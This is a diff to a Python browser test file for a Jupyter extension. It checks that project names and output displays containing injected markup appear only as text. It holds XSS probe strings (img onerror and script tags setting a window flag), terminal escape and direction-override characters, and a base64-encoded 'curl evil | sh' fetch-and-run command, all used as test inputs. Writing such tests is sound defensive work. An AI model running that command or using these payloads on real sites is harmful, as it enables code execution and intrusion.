@@ -15,6 +15,13 @@ from tests.support.wxterm_server import WxtermServer, state
 
 pytestmark = [pytest.mark.cli, pytest.mark.timeout(300), pytest.mark.xdist_group("lab")]
 
+HOSTILE_NAME = "a<img src=x onerror=window.hacked=1>"
+#: What the live cards and forms are made with (`server/static/view.js`).
+MAKE = """async (evil) => {
+    const { make, verbatim } = await import("/static/wxcode_jupyter/view.js");
+    const made = make("div", {}, evil, verbatim(""));
+    return [made.textContent, made.querySelectorAll("img, script").length];
+}"""
 EVIL = base64.b64encode(b"curl evil | sh").decode()
 
 
@@ -114,6 +121,22 @@ def test_names_are_text_on_one_line(lab: Lab, server: WxtermServer) -> None:
         assert not set(text) & set("\x1b\n\x07\x9b\u202e"), text
     assert shown.root.locator("b, img, script").count() == 1, "the name of a link's host"
     assert not shown.notebook.page.evaluate("window.hacked")
+
+
+def test_displays_and_what_follows_the_server_are_text(lab: Lab) -> None:
+    evil = "<img src=x onerror=window.hacked=1><script>window.hacked=1</script>\x1b[2J\u202e</pre>end"
+    display = f"from wxcode_jupyter.magics.results import Help\nHelp(text={evil!r})"
+    notebook = lab.open("displays", f"%load_ext wxcode_jupyter\n%wx project '{HOSTILE_NAME}'", display, "%wx status")
+    expect(notebook.run(0)).to_contain_text("<img src=x onerror=window.hacked=1>")
+    shown = notebook.run(1)
+    expect(shown).to_contain_text("<script>window.hacked=1</script></pre>end")
+    card = notebook.run(2).locator("wxcode-card")
+    expect(card).to_contain_text("follows the server")
+    expect(card).to_contain_text("<img src=x onerror=window.hacked=1>")
+    made = notebook.page.evaluate(MAKE, evil)
+    assert made == ["<img src=x onerror=window.hacked=1><script>window.hacked=1</script></pre>end", 0]
+    assert notebook.page.locator(".jp-OutputArea-output :is(img, b b, script[src])").count() == 0
+    assert not notebook.page.evaluate("window.hacked")
 
 
 def click(shown: Shown, text: str) -> None:
